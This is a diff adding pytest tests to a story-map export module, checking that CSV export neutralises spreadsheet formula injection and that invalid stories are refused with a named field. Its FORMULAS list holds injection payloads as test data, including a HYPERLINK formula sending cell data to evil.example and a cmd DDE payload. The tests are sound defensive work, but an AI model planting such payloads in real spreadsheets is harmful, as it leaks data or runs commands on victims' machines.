@@ -501,3 +501,42 @@ def test_export_module_exports_are_documented():
         if name[0].islower():
             assert f"{name}(" in doc or f"`{name}`" in doc, name
     assert os.fspath(basemap_path()).endswith("geodata/basemap.geojson")
+
+
+# ---------------------------------------------------------------------------------------------------
+# CSV formula injection, and only valid stories reach a writer
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+@pytest.mark.parametrize("column", ["step_id", "title", "place", "sources"])
+def test_export_csv_neutralises_formula_cells(formula, column):
+    src = (Source(formula if column == "sources" else "a.txt", 0, 5),)
+    step = Step(formula if column == "step_id" else "s1", "2019-05", formula if column == "title" else "Tankers",
+                "", (place(formula if column == "place" else "Fujairah", 25.1, -56.3),), src)
+    row = list(csv.DictReader(io.StringIO(to_csv(Story("T", (step,))))))[0]
+    assert row[column].startswith("'" + formula[:1])
+    assert row["lon"] == "-56.3"  # numbers stay numbers, minus sign included
+
+
+def test_export_csv_keeps_ordinary_text_as_is():
+    step = Step("s1", "2019", "Tankers hit — 4 damaged", "", (place("Fujairah", 25.1, 56.3),), ())
+    row = list(csv.DictReader(io.StringIO(to_csv(Story("T", (step,))))))[0]
+    assert (row["title"], row["place"]) == ("Tankers hit — 4 damaged", "Fujairah")
+
+
+@pytest.mark.parametrize("story, field", [
+    (Story("bad \ud800 title", ()), "title"),
+    (Story("T", (Step("s1", None, "t", "", (place("Fuj\udfffairah", 25.1, 56.3),), ()),)), "steps[0].places[0].name"),
+    (Story("T", (Step("s1", None, "t", "", (place("X", float("nan"), 56.3),), ()),)), "steps[0].places[0].lat"),
+    (Story("T", (Step("s1", None, "t", "", (place("X", 10**400, 56.3),), ()),)), "steps[0].places[0].lat"),
+])
+@pytest.mark.parametrize("fmt", ["html", "csv", "kml", "geojson", "storymapjs", "timelinejs"])
+def test_export_write_exports_refuses_an_invalid_story_naming_the_field(tmp_path, story, field, fmt):
+    out = tmp_path / f"out.{fmt}"
+    with pytest.raises(StorymapError) as info:
+        export.write_exports(story, geometries={}, **{fmt: out})
+    assert str(info.value).startswith(f"{field}: ") and "\n" not in str(info.value)
+    assert not out.exists()
